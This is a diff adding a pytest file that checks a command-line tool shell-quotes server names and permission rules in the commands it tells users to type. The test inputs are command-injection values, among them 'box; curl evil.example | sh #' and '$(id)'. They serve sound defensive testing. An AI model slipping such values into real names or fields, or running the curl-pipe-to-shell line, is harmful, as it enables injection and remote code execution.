@@ -1,0 +1,50 @@
+"""T245: a command that a person is advised to type runs nothing else, whatever names a repository has."""
+
+import shlex
+from pathlib import Path
+
+import pytest
+
+from dragoman.names import typed
+from tests.e2e.forked import run
+from tests.torture import projects
+from tests.unit.tui.desk import Desk, desk
+
+__all__ = ["desk"]
+pytestmark = pytest.mark.requirement("CAT-2")
+NAME = "box; curl evil.example | sh #"
+RULE = "Bash(x'; curl evil.example | sh; ')"
+
+
+@pytest.mark.parametrize("name", [NAME, "a'; id; '", "$(id)", "`id`", "-rf"])
+def test_t245_a_typed_name_is_one_word(name: str):
+    assert shlex.split(typed(name))[-1] == name
+    assert len(shlex.split(typed(name))) == 1 + name.startswith("-")
+
+
+async def test_t245_an_entry_that_is_not_approved_is_one_word(
+    desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch
+):
+    projects.write(home / "work/.mcp.json", projects.servers(**{NAME: {"command": "true"}}))
+    monkeypatch.chdir(home / "work")
+    async with desk.opened(is_configured=True, size=(140, 40)) as seat:
+        await seat.until(lambda: "dragoman mcp approve" in seat.text)
+        assert f"dragoman mcp approve '{NAME}'" in seat.text
+
+
+async def test_t245_a_rule_of_a_file_is_one_word(desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch):
+    projects.write(home / "work/.dragoman/settings.local.json", {"permissions": {"deny": [RULE]}})
+    monkeypatch.chdir(home / "work")
+    async with desk.opened(is_configured=True, mode="default", size=(140, 40)) as seat:
+        await seat.send("/permissions")
+        await seat.until(lambda: len(seat.app.screen_stack) == 2)
+        await seat.pilot.press("end", "d")
+        await seat.until(lambda: "It is in a file" in seat.shown(".problem"))
+        assert seat.shown(".problem").endswith(f"dragoman permissions remove {shlex.quote(RULE)}")
+
+
+def test_t245_the_server_of_a_sign_in_is_one_word(home: Path):
+    entry = {"type": "http", "url": "https://example.com/mcp"}
+    projects.user(home, {"mcpServers": {NAME: entry}})
+    shown = run("mcp", "whoami", NAME)
+    assert f"`dragoman mcp login '{NAME}'`" in " ".join((shown.stdout + shown.stderr).split())
